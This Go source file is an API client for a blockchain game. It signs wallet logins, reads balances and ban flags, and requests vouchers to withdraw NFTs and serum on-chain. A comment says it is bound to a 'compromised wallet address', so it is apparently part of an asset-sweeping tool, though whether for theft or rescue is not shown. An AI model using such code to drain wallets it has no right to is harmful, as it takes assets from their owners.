// Package gameapi implements the client for the game's balance and claim API.
// Every withdrawal of in-game assets starts here: the wallet authenticates with
// a signed challenge, balances are queried, and claim vouchers are issued that
// the on-chain contracts later verify.
package gameapi

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"golang.org/x/time/rate"
)

// HTTPDoer abstracts the HTTP client for testability.
type HTTPDoer interface {
	Do(req *http.Request) (*http.Response, error)
}

// ChallengeSigner signs the login challenge message with the wallet key.
type ChallengeSigner interface {
	SignMessage(message string) (string, error)
}

// Credentials holds the static API signing material issued to the operator.
type Credentials struct {
	APIKey string
	Base   string
	Salt   string
}

// Rules mirrors the account-level withdrawal switches.
type Rules struct {
	IsBanned         bool
	IsLockedForClaim bool
}

// ItemVoucher is a signed authorisation to claim NFTs on-chain.
type ItemVoucher struct {
	Success     bool
	ErrorReason string
	TxID        string
	Timestamp   int64
	Signature   string
	TokenIDs    []int64
}

// SerumVoucher is a signed authorisation to withdraw serum on-chain. Amount is
// the net amount granted by the API, which may differ from the requested one.
type SerumVoucher struct {
	Success     bool
	ErrorReason string
	TxID        string
	Timestamp   int64
	Signature   string
	Amount      int64
}

const defaultChallengeTemplate = "Welcome! In order to verify your identity, please sign this message. Your sign code is: %s"

// Client talks to the game API on behalf of exactly one wallet. It is not safe
// for concurrent use; each worker constructs its own.
type Client struct {
	httpClient HTTPDoer
	limiter    *rate.Limiter
	baseURL    string
	creds      Credentials
	wallet     string
	template   string
	now        func() time.Time

	token          string
	tokenSecondary string
}

// Option customises the client.
type Option func(*Client)

// WithHTTPClient overrides the HTTP transport.
func WithHTTPClient(doer HTTPDoer) Option {
	return func(c *Client) { c.httpClient = doer }
}

// WithRateLimit throttles outgoing requests to rps with the given burst.
func WithRateLimit(rps float64, burst int) Option {
	return func(c *Client) {
		if rps > 0 {
			c.limiter = rate.NewLimiter(rate.Limit(rps), burst)
		}
	}
}

// WithChallengeTemplate overrides the login message template. The template must
// contain a single %s verb for the server-issued sign code.
func WithChallengeTemplate(template string) Option {
	return func(c *Client) {
		if strings.Contains(template, "%s") {
			c.template = template
		}
	}
}

// WithClock sets the timestamp source used for request signing.
func WithClock(clock func() time.Time) Option {
	return func(c *Client) { c.now = clock }
}

// New constructs a client bound to the compromised wallet address.
func New(baseURL string, creds Credentials, walletAddress string, opts ...Option) *Client {
	c := &Client{
		httpClient: &http.Client{Timeout: 15 * time.Second},
		baseURL:    strings.TrimRight(strings.TrimSpace(baseURL), "/"),
		creds:      creds,
		wallet:     strings.ToLower(strings.TrimSpace(walletAddress)),
		template:   defaultChallengeTemplate,
		now:        time.Now,
	}
	for _, opt := range opts {
		opt(c)
	}
	return c
}

// Wallet returns the lowercased wallet address the client acts for.
func (c *Client) Wallet() string { return c.wallet }

// envelope is the API's generic response wrapper.
type envelope[T any] struct {
	Code int `json:"code"`
	Data struct {
		State int    `json:"state"`
		Msg   string `json:"msg"`
		Data  T      `json:"data"`
	} `json:"data"`
}

// Authenticate performs the full login flow: fetch the challenge sign code,
// sign it with the wallet key, exchange the signature for the session token
// pair, and verify the account is neither banned nor claim-locked. It returns
// false without error when the account is ineligible.
func (c *Client) Authenticate(ctx context.Context, signer ChallengeSigner) (bool, error) {
	code, err := c.ChallengeNonce(ctx)
	if err != nil || code == "" {
		return false, err
	}
	signature, err := signer.SignMessage(fmt.Sprintf(c.template, code))
	if err != nil {
		return false, fmt.Errorf("gameapi: sign challenge: %w", err)
	}
	token, secondary, err := c.Login(ctx, signature)
	if err != nil {
		return false, err
	}
	if token == "" || secondary == "" {
		return false, nil
	}
	c.token, c.tokenSecondary = token, secondary

	rules, err := c.WithdrawalRules(ctx)
	if err != nil {
		return false, err
	}
	if rules.IsBanned || rules.IsLockedForClaim {
		return false, nil
	}
	return true, nil
}

// ChallengeNonce requests the one-time sign code for the wallet.
func (c *Client) ChallengeNonce(ctx context.Context) (string, error) {
	form := url.Values{}
	form.Set("walletAddress", c.wallet)
	var resp struct {
		Code int `json:"code"`
		Data struct {
			Code    int    `json:"code"`
			Message string `json:"message"`
			Data    string `json:"data"`
		} `json:"data"`
	}
	if err := c.postForm(ctx, "account/wallet", form, &resp); err != nil {
		return "", err
	}
	return resp.Data.Data, nil
}

// Login exchanges the signed challenge for the session token pair.
func (c *Client) Login(ctx context.Context, signature string) (string, string, error) {
	form := url.Values{}
	form.Set("signature", signature)
	form.Set("walletAddress", c.wallet)
	var resp struct {
		Code int `json:"code"`
		Data struct {
			Code    int    `json:"code"`
			Message string `json:"message"`
			Data    struct {
				Token     string `json:"token"`
				TokenHead string `json:"tokenHead"`
				ExpiresIn int64  `json:"expiresIn"`
			} `json:"data"`
			KToken string `json:"kToken"`
		} `json:"data"`
	}
	if err := c.postForm(ctx, "account/login", form, &resp); err != nil {
		return "", "", err
	}
	if resp.Data.Message != "Success" {
		return "", "", nil
	}
	return resp.Data.Data.TokenHead + resp.Data.Data.Token, resp.Data.KToken, nil
}

// WithdrawalRules reads the account ban and claim-lock switches.
func (c *Client) WithdrawalRules(ctx context.Context) (Rules, error) {
	var resp envelope[struct {
		BaseControl struct {
			IsBanned      bool `json:"is_banned"`
			IsLockedClaim bool `json:"is_locked_claim"`
		} `json:"baseControl"`
	}]
	if err := c.get(ctx, "player/withdrawalrules", nil, &resp); err != nil {
		return Rules{}, err
	}
	return Rules{
		IsBanned:         resp.Data.Data.BaseControl.IsBanned,
		IsLockedForClaim: resp.Data.Data.BaseControl.IsLockedClaim,
	}, nil
}

// InGameTokenBalance reads the in-game fungible token balance in wei.
func (c *Client) InGameTokenBalance(ctx context.Context) (*big.Int, error) {
	var resp envelope[struct {
		InGameAmount string `json:"inGameAmount"`
	}]
	if err := c.get(ctx, "player/token", url.Values{"address": {c.wallet}}, &resp); err != nil {
		return nil, err
	}
	raw := strings.TrimSpace(resp.Data.Data.InGameAmount)
	if raw == "" {
		return big.NewInt(0), nil
	}
	amount, ok := new(big.Int).SetString(raw, 10)
	if !ok {
		return nil, fmt.Errorf("gameapi: invalid token amount %q", raw)
	}
	return amount, nil
}

// InGameSerumBalance reads the claimable in-game serum balance.
func (c *Client) InGameSerumBalance(ctx context.Context) (int64, error) {
	var resp envelope[struct {
		InGameAmount  int64 `json:"inGameAmount"`
		OutGameAmount int64 `json:"outGameAmount"`
	}]
	if err := c.get(ctx, "serum/query", url.Values{"address": {c.wallet}}, &resp); err != nil {
		return 0, err
	}
	return resp.Data.Data.InGameAmount, nil
}

// InGameHeldItems lists the NFT ids currently held in-game by the account.
func (c *Client) InGameHeldItems(ctx context.Context) ([]int64, error) {
	var resp envelope[[]struct {
		ID      string `json:"id"`
		TokenID int64  `json:"tokenId"`
	}]
	if err := c.get(ctx, "fighter/queryingame", url.Values{"address": {c.wallet}}, &resp); err != nil {
		return nil, err
	}
	ids := make([]int64, 0, len(resp.Data.Data))
	for _, item := range resp.Data.Data {
		ids = append(ids, item.TokenID)
	}
	return ids, nil
}

// PreClaimItems asks the API to authorise an on-chain claim for the item ids.
func (c *Client) PreClaimItems(ctx context.Context, tokenIDs []int64) (ItemVoucher, error) {
	ids := make([]string, len(tokenIDs))
	for i, id := range tokenIDs {
		ids[i] = strconv.FormatInt(id, 10)
	}
	query := url.Values{
		"heros":   {strings.Join(ids, ",")},
		"address": {c.wallet},
	}
	var resp envelope[struct {
		Success     bool    `json:"success"`
		ErrorReason string  `json:"errorReason"`
		TxID        string  `json:"txId"`
		Timestamp   int64   `json:"timestamp"`
		Signature   string  `json:"signature"`
		TokenIDs    []int64 `json:"tokenIds"`
	}]
	if err := c.get(ctx, "fighter/claim", query, &resp); err != nil {
		return ItemVoucher{}, err
	}
	data := resp.Data.Data
	return ItemVoucher{
		Success:     data.Success,
		ErrorReason: data.ErrorReason,
		TxID:        data.TxID,
		Timestamp:   data.Timestamp,
		Signature:   data.Signature,
		TokenIDs:    data.TokenIDs,
	}, nil
}

// PreClaimSerum asks the API to authorise an on-chain serum withdrawal.
func (c *Client) PreClaimSerum(ctx context.Context, amount int64) (SerumVoucher, error) {
	query := url.Values{
		"amount":  {strconv.FormatInt(amount, 10)},
		"address": {c.wallet},
	}
	var resp envelope[struct {
		Success     bool   `json:"success"`
		ErrorReason string `json:"errorReason"`
		TxID        string `json:"txId"`
		Timestamp   int64  `json:"timestamp"`
		Signature   string `json:"signature"`
		Amount      int64  `json:"amount"`
	}]
	if err := c.get(ctx, "serum/claim", query, &resp); err != nil {
		return SerumVoucher{}, err
	}
	data := resp.Data.Data
	return SerumVoucher{
		Success:     data.Success,
		ErrorReason: data.ErrorReason,
		TxID:        data.TxID,
		Timestamp:   data.Timestamp,
		Signature:   data.Signature,
		Amount:      data.Amount,
	}, nil
}

// ListOwnedItems pages through the wallet's on-chain NFT inventory as the API
// indexes it. This is the source of truth for items claimed in prior runs.
func (c *Client) ListOwnedItems(ctx context.Context, page, limit int) ([]int64, error) {
	if limit <= 0 {
		limit = 200
	}
	query := url.Values{
		"page":  {strconv.Itoa(page)},
		"limit": {strconv.Itoa(limit)},
	}
	var resp struct {
		Code int `json:"code"`
		Data []struct {
			TokenID int64 `json:"tokenId"`
		} `json:"data"`
	}
	if err := c.get(ctx, "assets/inventory", query, &resp); err != nil {
		return nil, err
	}
	ids := make([]int64, 0, len(resp.Data))
	for _, item := range resp.Data {
		ids = append(ids, item.TokenID)
	}
	return ids, nil
}

func (c *Client) get(ctx context.Context, path string, query url.Values, out interface{}) error {
	return c.request(ctx, http.MethodGet, path, query, "", nil, out)
}

func (c *Client) postForm(ctx context.Context, path string, form url.Values, out interface{}) error {
	body := strings.NewReader(form.Encode())
	return c.request(ctx, http.MethodPost, path, nil, "application/x-www-form-urlencoded", body, out)
}

func (c *Client) request(ctx context.Context, method, path string, query url.Values, contentType string, body io.Reader, out interface{}) error {
	if c.limiter != nil {
		if err := c.limiter.Wait(ctx); err != nil {
			return err
		}
	}
	endpoint := c.baseURL + "/" + strings.TrimLeft(path, "/")
	req, err := http.NewRequestWithContext(ctx, method, endpoint, body)
	if err != nil {
		return fmt.Errorf("gameapi: build request: %w", err)
	}
	if len(query) > 0 {
		req.URL.RawQuery = query.Encode()
	}
	c.signHeaders(req)
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := c.httpClient.Do(req)
	if err != nil {
		return fmt.Errorf("gameapi: %s %s: %w", method, path, err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		snippet, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return fmt.Errorf("gameapi: %s %s: status %d: %s", method, path, resp.StatusCode, strings.TrimSpace(string(snippet)))
	}
	if out == nil {
		return nil
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		return fmt.Errorf("gameapi: decode %s: %w", path, err)
	}
	return nil
}

// signHeaders stamps the request with the API's md5-signed header scheme plus
// the session tokens once the client is authenticated.
func (c *Client) signHeaders(req *http.Request) {
	ts := strconv.FormatInt(c.now().UnixMilli(), 10)
	digest := md5.Sum([]byte(c.creds.Base + "_" + c.creds.Salt + "_" + ts))
	req.Header.Set("Api-Key", c.creds.APIKey)
	req.Header.Set("x-api-base", c.creds.Base)
	req.Header.Set("x-api-salt", c.creds.Salt)
	req.Header.Set("x-api-ts", ts)
	req.Header.Set("x-api-sign", hex.EncodeToString(digest[:]))
	if c.token != "" {
		req.Header.Set("Authorization", c.token)
	}
	if c.tokenSecondary != "" {
		req.Header.Set("Authorizationk", c.tokenSecondary)
	}
}
